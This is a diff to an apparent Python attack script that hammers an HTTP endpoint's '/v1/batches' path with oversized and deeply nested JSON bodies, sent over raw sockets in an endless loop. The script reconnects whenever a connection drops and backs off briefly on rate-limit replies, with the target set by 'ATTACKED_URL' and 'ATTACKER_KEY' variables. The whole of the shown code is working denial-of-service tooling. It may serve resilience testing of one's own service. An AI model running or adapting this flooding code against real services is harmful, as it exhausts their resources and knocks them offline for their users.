@@ -4,8 +4,13 @@ import asyncio
 import contextlib
 import os
 import secrets
+import select
+import socket
 import sys
+import time
 from collections.abc import Awaitable, Callable
+from http import HTTPStatus
+from http.client import HTTPException, HTTPResponse
 from urllib.parse import urlsplit
 
 import httpx
@@ -13,10 +18,13 @@ import httpx
 URL = os.environ.get("ATTACKED_URL", "")
 KEY = os.environ.get("ATTACKER_KEY", "")
 BYTES = 15_900_000
+PIECE = 256 * 1024
 SLOW_PIECE, SLOW_EVERY_S = 17_000, 1.0
 
 
 def _garbage(kind: str) -> bytes:
+    if kind == "small":
+        return b'{"a":[' + b"{}," * 990 + b'{}],"b":[' + b"1," * 900 + b"1]" + b" " * 50_000 + b"}"
     if kind == "jobs":
         return b'{"name":"a","jobs":[' + b'{"a":1},' * (BYTES // 8) + b'{"a":1}]}'
     if kind == "keys":
@@ -24,16 +32,35 @@ def _garbage(kind: str) -> bytes:
     return b"[" * (BYTES // 2) + b"]" * (BYTES // 2)
 
 
-async def json(kind: str) -> None:
-    """Large bodies, again and again."""
-    body = _garbage(kind)
-    async with _client() as client:
-        while True:
-            answer = await client.post(
-                "/v1/batches", content=body, headers={"Content-Type": "application/json"}
-            )
-            if answer.status_code == httpx.codes.TOO_MANY_REQUESTS:
-                await asyncio.sleep(0.1)
+async def json(kind: str, until: str) -> None:
+    """Bodies on one connection, a new one when it is closed, each sent whole or until it is answered.
+
+    Nothing but a socket: it takes what there is.
+    """
+    body, parts = _garbage(kind), urlsplit(URL)
+    head = _head("POST", "/v1/batches", f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n")
+    while True:
+        # Cut off: begin anew.
+        with (
+            contextlib.suppress(OSError, HTTPException),
+            socket.create_connection((parts.hostname or "", parts.port or 80)) as connection,
+        ):
+            while _post(connection, head, body, whole=until == "sent"):
+                pass
+
+
+def _post(connection: socket.socket, head: bytes, body: bytes, *, whole: bool) -> bool:
+    """One request; whether the connection is good for another."""
+    connection.sendall(head)
+    left = memoryview(body)
+    while left and (whole or not select.select([connection], [connection], [])[0]):
+        left = left[connection.send(left[:PIECE]) :]
+    with HTTPResponse(connection, method="POST") as answer:
+        answer.begin()
+        answer.read()
+        if answer.status == HTTPStatus.TOO_MANY_REQUESTS:
+            time.sleep(0.1)
+        return not left and not answer.will_close
 
 
 async def uploads(count: str) -> None:
